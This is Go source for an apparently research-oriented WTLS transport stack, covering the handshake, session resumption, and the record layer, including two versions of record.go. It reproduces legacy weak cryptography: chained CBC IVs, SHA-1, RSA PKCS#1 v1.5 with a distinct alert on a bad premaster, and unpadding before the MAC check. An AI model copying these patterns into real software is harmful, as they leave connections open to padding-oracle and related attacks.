			fmt.Errorf("wtls: expected handshake type %d, got %d", want, t))
	}
	return body, nil
}

// sendChangeCipherSpec emits the CCS record and arms the outbound keys.
// Sealing the CCS and arming the new keys happen under one write-lock
// hold so a concurrent alert cannot slip between them with stale keys.
func (c *Conn) sendChangeCipherSpec(km *keyMaterial) error {
	c.writeMu.Lock()
	defer c.writeMu.Unlock()
	wire, err := c.out.sealOne(recordChangeCipherSpec, []byte{1})
	if err != nil {
		return err
	}
	if err := writeFull(c.conn, wire); err != nil {
		return err
	}
	if c.isClient {
		return c.out.enable(c.suite, km.clientMAC, km.clientKey, km.clientIV)
	}
	return c.out.enable(c.suite, km.serverMAC, km.serverKey, km.serverIV)
}

// recvChangeCipherSpec consumes the peer CCS and arms the inbound keys.
func (c *Conn) recvChangeCipherSpec(km *keyMaterial) error {
	recType, frag, err := c.rr.next()
	if err != nil {
		return err
	}
	c.mmu.Lock()
	c.metrics.RecordsRcv++
	c.mmu.Unlock()
	payload, err := c.in.unprotect(recType, frag)
	if err != nil {
		return err
	}
	if recType == recordAlert && len(payload) == 2 {
		return c.alertRecv(payload[0], payload[1])
	}
	if recType != recordChangeCipherSpec || len(payload) != 1 || payload[0] != 1 {
		return errors.New("wtls: expected change cipher spec")
	}
	if c.isClient {
		return c.in.enable(c.suite, km.serverMAC, km.serverKey, km.serverIV)
	}
	return c.in.enable(c.suite, km.clientMAC, km.clientKey, km.clientIV)
}

// Handshake runs the protocol handshake. It is idempotent and safe for
// concurrent use: any number of goroutines calling Read, Write or
// Handshake trigger exactly one handshake, with the losers blocking
// until it settles. A fatal handshake error is sticky — the wire is
// desynchronized beyond repair, so later calls return the same error.
func (c *Conn) Handshake() error {
	if c.hsDone.Load() {
		return nil
	}
	c.hsMu.Lock()
	defer c.hsMu.Unlock()
	if c.hsDone.Load() {
		return nil
	}
	if c.hsErr != nil {
		return c.hsErr
	}
	if c.cfg == nil || c.cfg.Rand == nil {
		c.hsErr = errors.New("wtls: config with Rand required")
		return c.hsErr
	}
	role := "server"
	if c.isClient {
		role = "client"
	}
	sp := obs.StartSpan("wtls", "handshake_"+role)
	c.jhs("start")
	var err error
	if c.isClient {
		err = c.clientHandshake()
	} else {
		err = c.serverHandshake()
	}
	sp.End()
	c.phaseMark("")
	if p := c.tparent.Load(); p != nil {
		// Client role: the driver attached the parent before Handshake,
		// so the phase log replays here (failures included — a retried
		// attempt's partial handshake is critical-path evidence). The
		// server learns its parent later, from the wire.
		c.flushHandshakeTrace(p)
	}
	if err != nil {
		mHandshakeFailures.Inc()
		journal.Emit(c.jphase, journal.LevelWarn, "wtls", "handshake_failed",
			journal.S("role", role), journal.S("err", err.Error()))
		c.hsErr = err
		return err
	}
	if journal.On(journal.LevelInfo) {
		journal.Emit(c.jphase, journal.LevelInfo, "wtls", "handshake_done",
			journal.S("role", role), journal.S("suite", c.suite.Name),
			journal.B("resumed", c.resumed))
	}
	kind := c.suite.KeyExchange
	c.mmu.Lock()
	if c.resumed {
		kind = cost.HandshakeResume
		c.metrics.ResumedHandshakes++
		mHandshakesResumed.Inc()
	} else {
		c.metrics.FullHandshakes++
		mHandshakesFull.Inc()
	}
	c.mmu.Unlock()
	instr, err := cost.HandshakeInstr(kind)
	if err != nil {
		c.hsErr = err
		return err
	}
	c.mmu.Lock()
	c.metrics.HandshakeInstr += instr
	c.mmu.Unlock()
	if prof.Enabled() {
		hsProfSpans[kind].AddCycles(int64(instr))
	}
	c.hsDone.Store(true)
	return nil
}

func (c *Conn) transcriptHash() []byte { return c.transcript.Sum(nil) }

func (c *Conn) clientHandshake() error {
	c.phaseMark("hello")
	clientRandom := c.cfg.Rand.Bytes(randomLen)
	var cached *session
	var offerID []byte
	if c.cfg.SessionCache != nil && c.cfg.ServerName != "" {
		if s := c.cfg.SessionCache.get("client:" + c.cfg.ServerName); s != nil {
			cached = s
			offerID = s.id
		}
	}
	hello := &clientHello{random: clientRandom, sessionID: offerID, suites: c.cfg.suitesOrDefault()}
	if err := c.writeHandshake(hello.marshal()); err != nil {
		return err
	}
	c.jhs("client_hello_sent")

	body, err := c.expectHandshake(typeServerHello)
	if err != nil {
		return err
	}
	sh, err := parseServerHello(body)
	if err != nil {
		return c.fail(AlertHandshakeFailed, err)
	}
	st, err := suite.ByID(sh.suite)
	if err != nil {
		return c.fail(AlertHandshakeFailed, err)
	}
	offered := false
	for _, id := range hello.suites {
		if id == sh.suite {
			offered = true
			break
		}
	}
	if !offered {
		return c.fail(AlertHandshakeFailed, fmt.Errorf("wtls: server chose unoffered suite %#04x", sh.suite))
	}
	c.suite = st
	c.sessionID = sh.sessionID
	c.jhs("server_hello_recv")

	if sh.resumed {
		c.jhs("resume")
		c.phaseMark("finished")
		if cached == nil || cached.suiteID != sh.suite || string(cached.id) != string(sh.sessionID) {
			return c.fail(AlertHandshakeFailed, errors.New("wtls: bogus resumption"))
		}
		c.resumed = true
		c.master = cached.master
		km := deriveKeys(c.master, clientRandom, sh.random, st.MACKeyLen, st.KeyLen, st.IVLen)
		// Server finishes first on resumption.
		if err := c.recvChangeCipherSpec(&km); err != nil {
			return err
		}
		serverTranscript := c.transcriptHash()
		fbody, err := c.expectHandshake(typeFinished)
		if err != nil {
			return err
		}
		if err := c.checkFinished(fbody, false, serverTranscript); err != nil {
			return err
		}
		if err := c.sendChangeCipherSpec(&km); err != nil {
			return err
		}
		fin := &finishedMsg{verify: finishedData(c.master, true, c.transcriptHash())}
		return c.writeHandshake(fin.marshal())
	}

	// Full handshake: certificate (+ server key exchange for DHE).
	c.phaseMark("key_exchange")
	certBody, err := c.expectHandshake(typeCertificate)
	if err != nil {
		return err
	}
	cm, err := parseCertificateMsg(certBody)
	if err != nil {
		return c.fail(AlertBadCertificate, err)
	}
	cert, err := UnmarshalCertificate(cm.cert)
	if err != nil {
		return c.fail(AlertBadCertificate, err)
	}
	if c.cfg.RootCA == nil {
		return c.fail(AlertBadCertificate, errors.New("wtls: client has no root CA"))
	}
	if err := cert.Verify(c.cfg.RootCA, c.cfg.ServerName); err != nil {
		return c.fail(AlertBadCertificate, err)
	}
	c.jhs("certificate_verified")

	var premaster []byte
	var ckx *clientKeyExchange
	switch st.KexName {
	case "RSA":
		body, err := c.expectHandshake(typeServerHelloDone)
		if err != nil {
			return err
		}
		if len(body) != 0 {
			return c.fail(AlertHandshakeFailed, errors.New("wtls: non-empty hello done"))
		}
		premaster = make([]byte, masterSecretLen)
		premaster[0] = byte(protocolVersion >> 8)
		premaster[1] = byte(protocolVersion & 0xff)
		copy(premaster[2:], c.cfg.Rand.Bytes(masterSecretLen-2))
		enc, err := rsa.EncryptPKCS1(c.cfg.Rand, cert.PublicKey, premaster)
		if err != nil {
			return c.fail(AlertHandshakeFailed, err)
		}
		ckx = &clientKeyExchange{payload: enc}
	case "DHE":
		skxBody, err := c.expectHandshake(typeServerKeyExchange)
		if err != nil {
			return err
		}
		skx, err := parseServerKeyExchange(skxBody)
		if err != nil {
			return c.fail(AlertHandshakeFailed, err)
		}
		params := skx.signedParams(clientRandom, sh.random)
		digest := sha1.Sum(params)
		if err := rsa.VerifyPKCS1(cert.PublicKey, "sha1", digest[:], skx.signature); err != nil {
			return c.fail(AlertHandshakeFailed, fmt.Errorf("wtls: DH params signature: %w", err))
		}
		body, err := c.expectHandshake(typeServerHelloDone)
		if err != nil {
			return err
		}
		if len(body) != 0 {
			return c.fail(AlertHandshakeFailed, errors.New("wtls: non-empty hello done"))
		}
		group := &dh.Group{Name: "negotiated", P: skx.p, G: skx.g}
		kp, err := dh.GenerateKeyPair(group, c.cfg.Rand, nil)
		if err != nil {
			return c.fail(AlertHandshakeFailed, err)
		}
		premaster, err = kp.SharedSecret(skx.ys, nil)
		if err != nil {
			return c.fail(AlertHandshakeFailed, err)
		}
		ckx = &clientKeyExchange{payload: kp.Public.Bytes()}
	default:
		return c.fail(AlertHandshakeFailed, fmt.Errorf("wtls: unsupported key exchange %q", st.KexName))
	}

	if err := c.writeHandshake(ckx.marshal()); err != nil {
		return err
	}
	c.jhs("key_exchange_sent")
	c.phaseMark("finished")
	c.master = deriveMaster(premaster, clientRandom, sh.random)
	km := deriveKeys(c.master, clientRandom, sh.random, st.MACKeyLen, st.KeyLen, st.IVLen)

	if err := c.sendChangeCipherSpec(&km); err != nil {
		return err
	}
	fin := &finishedMsg{verify: finishedData(c.master, true, c.transcriptHash())}
	if err := c.writeHandshake(fin.marshal()); err != nil {
		return err
	}
	if err := c.recvChangeCipherSpec(&km); err != nil {
		return err
	}
	serverTranscript := c.transcriptHash()
	fbody, err := c.expectHandshake(typeFinished)
	if err != nil {
		return err
	}
	if err := c.checkFinished(fbody, false, serverTranscript); err != nil {
		return err
	}
	c.jhs("finished")
	if c.cfg.SessionCache != nil && c.cfg.ServerName != "" && len(c.sessionID) > 0 {
		c.cfg.SessionCache.put("client:"+c.cfg.ServerName, &session{
			id: c.sessionID, master: c.master, suiteID: st.ID,
		})
	}
	return nil
}

func (c *Conn) serverHandshake() error {
	c.phaseMark("hello")
	body, err := c.expectHandshake(typeClientHello)
	if err != nil {
		return err
	}
	ch, err := parseClientHello(body)
	if err != nil {
		return c.fail(AlertHandshakeFailed, err)
	}
	c.jhs("client_hello_recv")
	serverRandom := c.cfg.Rand.Bytes(randomLen)

	// Resumption path.
	if c.cfg.SessionCache != nil && len(ch.sessionID) > 0 {
		if s := c.cfg.SessionCache.get("server:" + string(ch.sessionID)); s != nil {
			offered := false
			for _, id := range ch.suites {
				if id == s.suiteID {
					offered = true
					break
				}
			}
			if offered {
				return c.serverResume(ch, s, serverRandom)
			}
		}
	}

	st, err := suite.Negotiate(ch.suites, c.cfg.suitesOrDefault())
	if err != nil {
		return c.fail(AlertHandshakeFailed, err)
	}
	if st.KexName == "DHE" && c.cfg.DHGroup == nil {
		// Fall back to the first non-DHE common suite.
		var fallback []uint16
		for _, id := range c.cfg.suitesOrDefault() {
			if s2, err := suite.ByID(id); err == nil && s2.KexName != "DHE" {
				fallback = append(fallback, id)
			}
		}
		if st, err = suite.Negotiate(ch.suites, fallback); err != nil {
			return c.fail(AlertHandshakeFailed, errors.New("wtls: DHE suite without DH group"))
		}
	}
	c.suite = st
	if c.cfg.Certificate == nil || c.cfg.PrivateKey == nil {
		return c.fail(AlertHandshakeFailed, errors.New("wtls: server requires certificate and key"))
	}

	c.sessionID = c.cfg.Rand.Bytes(16)
	sh := &serverHello{random: serverRandom, sessionID: c.sessionID, suite: st.ID}
	if err := c.writeHandshake(sh.marshal()); err != nil {
		return err
	}
	c.jhs("server_hello_sent")
	c.phaseMark("key_exchange")
	if err := c.writeHandshake((&certificateMsg{cert: c.cfg.Certificate.Marshal()}).marshal()); err != nil {
		return err
	}

	var dhKey *dh.KeyPair
	if st.KexName == "DHE" {
		dhKey, err = dh.GenerateKeyPair(c.cfg.DHGroup, c.cfg.Rand, nil)
		if err != nil {
			return c.fail(AlertHandshakeFailed, err)
		}
		skx := &serverKeyExchange{p: c.cfg.DHGroup.P, g: c.cfg.DHGroup.G, ys: dhKey.Public}
		digest := sha1.Sum(skx.signedParams(ch.random, serverRandom))
		sig, err := rsa.SignPKCS1(c.cfg.PrivateKey, "sha1", digest[:], c.cfg.RSAOptions)
		if err != nil {
			return c.fail(AlertHandshakeFailed, err)
		}
		skx.signature = sig
		if err := c.writeHandshake(skx.marshal()); err != nil {
			return err
		}
	}
	if err := c.writeHandshake(wrapHandshake(typeServerHelloDone, nil)); err != nil {
		return err
	}

	ckxBody, err := c.expectHandshake(typeClientKeyExchange)
	if err != nil {
		return err
	}
	ckx, err := parseClientKeyExchange(ckxBody)
	if err != nil {
		return c.fail(AlertHandshakeFailed, err)
	}
	c.jhs("key_exchange_recv")

	var premaster []byte
	switch st.KexName {
	case "RSA":
		pm, err := rsa.DecryptPKCS1(c.cfg.PrivateKey, ckx.payload, c.cfg.RSAOptions)
		if err != nil || len(pm) != masterSecretLen ||
			pm[0] != byte(protocolVersion>>8) || pm[1] != byte(protocolVersion&0xff) {
			return c.fail(AlertDecryptError, errors.New("wtls: bad premaster"))
		}
		premaster = pm
	case "DHE":
		yc := new(big.Int).SetBytes(ckx.payload)
		premaster, err = dhKey.SharedSecret(yc, nil)
		if err != nil {
			return c.fail(AlertHandshakeFailed, err)
		}
	}

	c.master = deriveMaster(premaster, ch.random, serverRandom)
	km := deriveKeys(c.master, ch.random, serverRandom, st.MACKeyLen, st.KeyLen, st.IVLen)

	c.phaseMark("finished")
	if err := c.recvChangeCipherSpec(&km); err != nil {
		return err
	}
	clientTranscript := c.transcriptHash()
	fbody, err := c.expectHandshake(typeFinished)
	if err != nil {
		return err
	}
	if err := c.checkFinished(fbody, true, clientTranscript); err != nil {
		return err
	}
	if err := c.sendChangeCipherSpec(&km); err != nil {
		return err
	}
	fin := &finishedMsg{verify: finishedData(c.master, false, c.transcriptHash())}
	if err := c.writeHandshake(fin.marshal()); err != nil {
		return err
	}
	c.jhs("finished")
	if c.cfg.SessionCache != nil {
		c.cfg.SessionCache.put("server:"+string(c.sessionID), &session{
			id: c.sessionID, master: c.master, suiteID: st.ID,
		})
	}
	return nil
}

func (c *Conn) serverResume(ch *clientHello, s *session, serverRandom []byte) error {
	c.jhs("resume")
	c.phaseMark("finished")
	st, err := suite.ByID(s.suiteID)
	if err != nil {
		return c.fail(AlertHandshakeFailed, err)
	}
	c.suite = st
	c.resumed = true
	c.sessionID = s.id
	c.master = s.master
	sh := &serverHello{random: serverRandom, sessionID: s.id, suite: st.ID, resumed: true}
	if err := c.writeHandshake(sh.marshal()); err != nil {
		return err
	}
	km := deriveKeys(c.master, ch.random, serverRandom, st.MACKeyLen, st.KeyLen, st.IVLen)
	if err := c.sendChangeCipherSpec(&km); err != nil {
		return err
	}
	fin := &finishedMsg{verify: finishedData(c.master, false, c.transcriptHash())}
	if err := c.writeHandshake(fin.marshal()); err != nil {
		return err
	}
	if err := c.recvChangeCipherSpec(&km); err != nil {
		return err
	}
	clientTranscript := c.transcriptHash()
	fbody, err := c.expectHandshake(typeFinished)
	if err != nil {
		return err
	}
	return c.checkFinished(fbody, true, clientTranscript)
}

func (c *Conn) checkFinished(body []byte, fromClient bool, transcriptHash []byte) error {
	fin, err := parseFinished(body)
	if err != nil {
		return c.fail(AlertHandshakeFailed, err)
	}
	want := finishedData(c.master, fromClient, transcriptHash)
	if len(fin.verify) != len(want) {
		return c.fail(AlertHandshakeFailed, errors.New("wtls: finished length"))
	}
	var diff byte
	for i := range want {
		diff |= fin.verify[i] ^ want[i]
	}
	if diff != 0 {
		return c.fail(AlertHandshakeFailed, errors.New("wtls: finished verify data mismatch"))
	}
	return nil
}

// Write sends application data, fragmenting into records as needed. A
// large payload is fragmented into one SealBatch call — sealed back to
// back into a single wire buffer and flushed with one transport write —
// so per-record overhead (HMAC staging, metric updates, syscalls) is
// amortized across the batch. Safe for concurrent use; concurrent
// writers interleave at batch granularity.
func (c *Conn) Write(p []byte) (int, error) {
	if err := c.Handshake(); err != nil {
		return 0, err
	}
	if c.closed.Load() {
		return 0, errors.New("wtls: connection closed")
	}
	total := 0
	for len(p) > 0 {
		tsp := c.tparent.Load()
		var t0 int64
		if tsp != nil {
			t0 = obs.DTraceNowUS()
		}
		c.writeMu.Lock()
		frags := c.wfrags[:0]
		batchBytes := 0
		for len(p) > 0 && len(frags) < maxRecordsPerBatch {
			n := len(p)
			if n > maxRecordPayload {
				n = maxRecordPayload
			}
			frags = append(frags, p[:n])
			batchBytes += n
			p = p[n:]
		}
		c.wfrags = frags
		wire, err := c.out.SealBatch(recordApplicationData, frags)
		if err != nil {
			c.writeMu.Unlock()
			return total, err
		}
		err = writeFull(c.conn, wire)
		c.writeMu.Unlock()
		if err != nil {
			return total, err
		}
		if tsp != nil {
			tsp.Event("wtls", "record_batch", t0, obs.DTraceNowUS()-t0, int64(batchBytes))
		}
		c.mmu.Lock()
		c.metrics.RecordsSent += len(frags)
		c.metrics.AppBytesOut += batchBytes
		c.metrics.BulkInstr += float64(batchBytes) * cost.BulkInstrPerByte(c.suite.Cipher, c.suite.MAC)
		c.mmu.Unlock()
		total += batchBytes
	}
	return total, nil
}

// Read returns application data, running the handshake if needed. When a
// burst of application records is already buffered (one transport read
// pulled in several), they are decrypted as one OpenBatch call with a
// single metrics update; the batch never waits for more wire data. Safe
// for concurrent use; concurrent readers are served one at a time.
func (c *Conn) Read(p []byte) (int, error) {
	if err := c.Handshake(); err != nil {
		return 0, err
	}
	c.readMu.Lock()
	defer c.readMu.Unlock()
	for c.readOff == len(c.readBuf) {
		c.readBuf = c.readBuf[:0]
		c.readOff = 0
		if c.closed.Load() {
			return 0, io.EOF
		}
		recType, frag, err := c.rr.next()
		if err != nil {
			return 0, err
		}
		switch recType {
		case recordApplicationData:
			// Collect consecutive already-buffered application records.
			// peek never refills the reader, so frag and its successors
			// stay alias-stable across the collection loop.
			frags := append(c.rfrags[:0], frag)
			for len(frags) < maxRecordsPerBatch {
				t, ok := c.rr.peek()
				if !ok || t != recordApplicationData {
					break
				}
				if _, f, err := c.rr.next(); err == nil {
					frags = append(frags, f)
				}
			}
			c.rfrags = frags
			payload, err := c.in.OpenBatch(recordApplicationData, frags)
			if err != nil {
				return 0, c.fail(AlertBadRecordMAC, err)
			}
			c.readBuf = append(c.readBuf, payload...)
			c.mmu.Lock()
			c.metrics.RecordsRcv += len(frags)
			c.metrics.AppBytesIn += len(payload)
			c.metrics.BulkInstr += float64(len(payload)) * cost.BulkInstrPerByte(c.suite.Cipher, c.suite.MAC)
			c.mmu.Unlock()
		case recordAlert:
			c.mmu.Lock()
			c.metrics.RecordsRcv++
			c.mmu.Unlock()
			payload, err := c.in.unprotect(recType, frag)
			if err != nil {
				return 0, c.fail(AlertBadRecordMAC, err)
			}
			if len(payload) != 2 {
				return 0, errors.New("wtls: malformed alert")
			}
			if payload[1] == AlertCloseNotify {
				c.closed.Store(true)
				return 0, io.EOF
			}
			return 0, c.alertRecv(payload[0], payload[1])
		default:
			c.mmu.Lock()
			c.metrics.RecordsRcv++
			c.mmu.Unlock()
			if _, err := c.in.unprotect(recType, frag); err != nil {
				return 0, c.fail(AlertBadRecordMAC, err)
			}
			return 0, fmt.Errorf("wtls: unexpected record type %d", recType)
		}
	}
	n := copy(p, c.readBuf[c.readOff:])
	c.readOff += n
	if c.readOff == len(c.readBuf) {
		c.readBuf = c.readBuf[:0]
		c.readOff = 0
	}
	return n, nil
}

// Close sends a close_notify alert (when a handshake completed and the
// peer has not already closed first) and closes the underlying
// transport if it is closable. Idempotent and safe to call concurrently
// with Read and Write: a blocked Read on a real socket is unblocked by
// the transport close.
func (c *Conn) Close() error {
	var err error
	c.closeOnce.Do(func() {
		if c.closed.CompareAndSwap(false, true) && c.hsDone.Load() {
			c.sendAlert(alertLevelWarning, AlertCloseNotify)
		}
		if cl, ok := c.conn.(io.Closer); ok {
			err = cl.Close()
		}
	})
	return err
}
