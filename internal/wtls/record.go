package wtls

import (
	"errors"
	"fmt"
	"hash"
	"io"

	"repro/internal/cost"
	"repro/internal/crypto/hmac"
	"repro/internal/crypto/modes"
	"repro/internal/obs"
	"repro/internal/obs/prof"
	"repro/internal/suite"
)

// Static per-record metric handles; no-ops until a cmd arms the
// default registry with -metrics.
var (
	mRecordsSealed = obs.C("wtls.records_sealed")
	mRecordsOpened = obs.C("wtls.records_opened")
	mSealBytes     = obs.C("wtls.seal_bytes")
	mOpenBytes     = obs.C("wtls.open_bytes")
	mMACFailures   = obs.C("wtls.mac_failures")
	mRecordSizes   = obs.H("wtls.record_bytes", obs.SizeBuckets)
)

// Record content types.
const (
	recordChangeCipherSpec uint8 = 20
	recordAlert            uint8 = 21
	recordHandshake        uint8 = 22
	recordApplicationData  uint8 = 23
)

// maxRecordPayload bounds a single record's plaintext.
const maxRecordPayload = 16384

// maxRecordFragment is the hard cap on one sealed fragment, in both
// directions: plaintext plus MAC plus block padding. readRecord refuses
// to allocate past it, so a hostile length field cannot consume
// unbounded memory on a 32 MB appliance.
const maxRecordFragment = maxRecordPayload + 1024

// maxHandshakeMsg bounds one handshake message body. The 24-bit wire
// length reaches 16 MB; every legitimate message in this protocol
// (hellos, compact WTLS certificates, key exchanges) is far under 64 KB,
// so anything larger is treated as an attack on the reassembly buffer
// and rejected before any record is buffered toward it.
const maxHandshakeMsg = 1 << 16

// Alert levels and descriptions (the subset this stack emits).
const (
	alertLevelWarning uint8 = 1
	alertLevelFatal   uint8 = 2

	AlertCloseNotify     uint8 = 0
	AlertBadRecordMAC    uint8 = 20
	AlertHandshakeFailed uint8 = 40
	AlertBadCertificate  uint8 = 42
	AlertDecryptError    uint8 = 51
)

// AlertError is a fatal alert received from the peer.
type AlertError struct {
	Level, Description uint8
}

func (e *AlertError) Error() string {
	return fmt.Sprintf("wtls: received alert level %d description %d", e.Level, e.Description)
}

// halfConn is one direction of record protection.
type halfConn struct {
	seq     uint64
	suite   *suite.Suite
	macKey  []byte
	block   modes.Block  // block suites
	cbcIV   []byte       // running CBC residue (SSL 3.0/TLS 1.0 chaining)
	stream  suite.Stream // stream suites
	enabled bool

	// Per-record scratch, armed by enable: the keyed HMAC is built once
	// and Reset between records, and seal/open work happens in reusable
	// buffers instead of fresh allocations per record.
	hmac    hash.Hash
	macBuf  []byte
	workBuf []byte

	// Cached energy/cycle profile frames for the suite's kernels (set by
	// enable, so the tree walk is off the per-record path).
	pCipher prof.Span
	pMAC    prof.Span
}

// enable arms the half connection with negotiated keys.
func (hc *halfConn) enable(s *suite.Suite, macKey, key, iv []byte) error {
	hc.suite = s
	hc.macKey = append([]byte{}, macKey...)
	switch s.Kind {
	case suite.BlockCipher:
		b, err := s.NewBlock(key)
		if err != nil {
			return err
		}
		hc.block = b
		hc.cbcIV = append([]byte{}, iv...)
	case suite.StreamCipher:
		st, err := s.NewStream(key)
		if err != nil {
			return err
		}
		hc.stream = st
	default:
		return errors.New("wtls: suite kind unsupported by record layer")
	}
	hc.hmac = hmac.New(s.NewHash, hc.macKey)
	hc.macBuf = make([]byte, 0, hc.hmac.Size())
	hc.pCipher = prof.Frame("wtls.Record/" + string(s.Cipher))
	hc.pMAC = prof.Frame("wtls.Record/" + string(s.MAC))
	hc.seq = 0
	hc.enabled = true
	return nil
}

// mac computes the record MAC over seq || type || length || payload into
// the half connection's MAC scratch; the result is valid until the next
// mac call.
func (hc *halfConn) mac(recType uint8, payload []byte) []byte {
	h := hc.hmac
	h.Reset()
	var hdr [11]byte
	for i := 0; i < 8; i++ {
		hdr[i] = byte(hc.seq >> uint(56-8*i))
	}
	hdr[8] = recType
	hdr[9] = byte(len(payload) >> 8)
	hdr[10] = byte(len(payload))
	h.Write(hdr[:])
	h.Write(payload)
	return h.Sum(hc.macBuf[:0])
}

// grow resizes the work scratch to n bytes, reallocating only when the
// record outgrows every previous one.
func (hc *halfConn) grow(n int) []byte {
	if cap(hc.workBuf) < n {
		hc.workBuf = make([]byte, n)
	}
	return hc.workBuf[:n]
}

// protect seals a plaintext fragment. The returned slice aliases the half
// connection's scratch buffer and is valid until the next protect or
// unprotect call; callers write it to the wire (or copy it) immediately.
func (hc *halfConn) protect(recType uint8, payload []byte) ([]byte, error) {
	if !hc.enabled {
		return append([]byte{}, payload...), nil
	}
	mRecordsSealed.Inc()
	mSealBytes.Add(int64(len(payload)))
	mRecordSizes.Observe(int64(len(payload)))
	if prof.Enabled() {
		hc.pCipher.AddCycles(int64(cost.InstrPerByte(hc.suite.Cipher) * float64(len(payload))))
		hc.pMAC.AddCycles(int64(cost.InstrPerByte(hc.suite.MAC) * float64(len(payload))))
	}
	mac := hc.mac(recType, payload)
	hc.seq++
	n := len(payload) + len(mac)
	switch hc.suite.Kind {
	case suite.BlockCipher:
		bs := hc.suite.BlockSize
		padLen := bs - n%bs
		data := hc.grow(n + padLen)
		copy(data, payload)
		copy(data[len(payload):], mac)
		for i := n; i < len(data); i++ {
			data[i] = byte(padLen)
		}
		if err := modes.EncryptCBCInto(hc.block, hc.cbcIV, data, data); err != nil {
			return nil, err
		}
		copy(hc.cbcIV, data[len(data)-bs:])
		return data, nil
	case suite.StreamCipher:
		data := hc.grow(n)
		copy(data, payload)
		copy(data[len(payload):], mac)
		hc.stream.XORKeyStream(data, data)
		return data, nil
	}
	return nil, errors.New("wtls: unreachable suite kind")
}

// unprotect opens a sealed fragment. The returned payload aliases the half
// connection's scratch buffer and is valid until the next protect or
// unprotect call; callers append it into their own buffers immediately.
func (hc *halfConn) unprotect(recType uint8, sealed []byte) ([]byte, error) {
	if !hc.enabled {
		return append([]byte{}, sealed...), nil
	}
	var data []byte
	switch hc.suite.Kind {
	case suite.BlockCipher:
		pt := hc.grow(len(sealed))
		if err := modes.DecryptCBCInto(hc.block, hc.cbcIV, sealed, pt); err != nil {
			return nil, err
		}
		if len(sealed) >= hc.suite.BlockSize {
			copy(hc.cbcIV, sealed[len(sealed)-hc.suite.BlockSize:])
		}
		var err error
		data, err = modes.Unpad(pt, hc.suite.BlockSize)
		if err != nil {
			return nil, err
		}
	case suite.StreamCipher:
		data = hc.grow(len(sealed))
		hc.stream.XORKeyStream(data, sealed)
	default:
		return nil, errors.New("wtls: unreachable suite kind")
	}
	macLen := hc.suite.MACLen()
	if len(data) < macLen {
		return nil, errors.New("wtls: record shorter than MAC")
	}
	payload, gotMAC := data[:len(data)-macLen], data[len(data)-macLen:]
	want := hc.mac(recType, payload)
	hc.seq++
	if !hmac.Equal(gotMAC, want) {
		mMACFailures.Inc()
		return nil, errors.New("wtls: bad record MAC")
	}
	mRecordsOpened.Inc()
	mOpenBytes.Add(int64(len(payload)))
	if prof.Enabled() {
		hc.pCipher.AddCycles(int64(cost.InstrPerByte(hc.suite.Cipher) * float64(len(payload))))
		hc.pMAC.AddCycles(int64(cost.InstrPerByte(hc.suite.MAC) * float64(len(payload))))
	}
	return payload, nil
}

// writeRecord frames and writes one record. Both the header and the
// fragment are written with writeFull: the in-memory pipes never
// short-write, but real sockets (and deliberately chunking test
// writers) can, and a torn record desynchronizes the peer forever.
func writeRecord(w io.Writer, recType uint8, fragment []byte) error {
	if len(fragment) > maxRecordFragment {
		return errors.New("wtls: oversized record")
	}
	hdr := []byte{recType, byte(protocolVersion >> 8), byte(protocolVersion & 0xff),
		byte(len(fragment) >> 8), byte(len(fragment))}
	if err := writeFull(w, hdr); err != nil {
		return err
	}
	return writeFull(w, fragment)
}

// writeFull writes all of p, looping on short writes. A writer that
// makes no progress without reporting an error is broken; surface it as
// io.ErrShortWrite instead of spinning.
func writeFull(w io.Writer, p []byte) error {
	for len(p) > 0 {
		n, err := w.Write(p)
		if err != nil {
			return err
		}
		if n <= 0 {
			return io.ErrShortWrite
		}
		p = p[n:]
	}
	return nil
}

// readRecord reads one record, returning its type and raw fragment.
func readRecord(r io.Reader) (uint8, []byte, error) {
	var hdr [5]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return 0, nil, err
	}
	ver := uint16(hdr[1])<<8 | uint16(hdr[2])
	if ver != protocolVersion {
		return 0, nil, fmt.Errorf("wtls: record version %#04x", ver)
	}
	n := int(hdr[3])<<8 | int(hdr[4])
	if n > maxRecordFragment {
		return 0, nil, errors.New("wtls: oversized record")
	}
	frag := make([]byte, n)
	if _, err := io.ReadFull(r, frag); err != nil {
		return 0, nil, err
	}
	return hdr[0], frag, nil
}
