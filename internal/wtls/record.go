package wtls

import (
	"errors"
	"fmt"
	"hash"
	"io"

	"repro/internal/cost"
	"repro/internal/crypto/hmac"
	"repro/internal/crypto/modes"
	"repro/internal/obs"
	"repro/internal/obs/prof"
	"repro/internal/suite"
)

// Static per-record metric handles; no-ops until a cmd arms the
// default registry with -metrics.
var (
	mRecordsSealed = obs.C("wtls.records_sealed")
	mRecordsOpened = obs.C("wtls.records_opened")
	mSealBytes     = obs.C("wtls.seal_bytes")
	mOpenBytes     = obs.C("wtls.open_bytes")
	mMACFailures   = obs.C("wtls.mac_failures")
	mRecordSizes   = obs.H("wtls.record_bytes", obs.SizeBuckets)
)

// Record content types.
const (
	recordChangeCipherSpec uint8 = 20
	recordAlert            uint8 = 21
	recordHandshake        uint8 = 22
	recordApplicationData  uint8 = 23
)

// recordHeaderLen is the framed record header: type, version, length.
const recordHeaderLen = 5

// maxRecordPayload bounds a single record's plaintext.
const maxRecordPayload = 16384

// maxRecordFragment is the hard cap on one sealed fragment, in both
// directions: plaintext plus MAC plus block padding. The record reader
// refuses to buffer past it, so a hostile length field cannot consume
// unbounded memory on a 32 MB appliance.
const maxRecordFragment = maxRecordPayload + 1024

// maxRecordsPerBatch bounds one SealBatch/OpenBatch call, and with it the
// wire and open scratch a connection can pin (~8 full records per
// direction).
const maxRecordsPerBatch = 8

// maxHandshakeMsg bounds one handshake message body. The 24-bit wire
// length reaches 16 MB; every legitimate message in this protocol
// (hellos, compact WTLS certificates, key exchanges) is far under 64 KB,
// so anything larger is treated as an attack on the reassembly buffer
// and rejected before any record is buffered toward it.
const maxHandshakeMsg = 1 << 16

// Alert levels and descriptions (the subset this stack emits).
const (
	alertLevelWarning uint8 = 1
	alertLevelFatal   uint8 = 2

	AlertCloseNotify     uint8 = 0
	AlertBadRecordMAC    uint8 = 20
	AlertHandshakeFailed uint8 = 40
	AlertBadCertificate  uint8 = 42
	AlertDecryptError    uint8 = 51
)

// AlertError is a fatal alert received from the peer.
type AlertError struct {
	Level, Description uint8
}

func (e *AlertError) Error() string {
	return fmt.Sprintf("wtls: received alert level %d description %d", e.Level, e.Description)
}

// halfConn is one direction of record protection.
type halfConn struct {
	seq     uint64
	suite   *suite.Suite
	macKey  []byte
	block   modes.Block       // block suites
	cbc     *modes.CBCCrypter // reusable CBC scratch for block suites
	cbcIV   []byte            // running CBC residue (SSL 3.0/TLS 1.0 chaining)
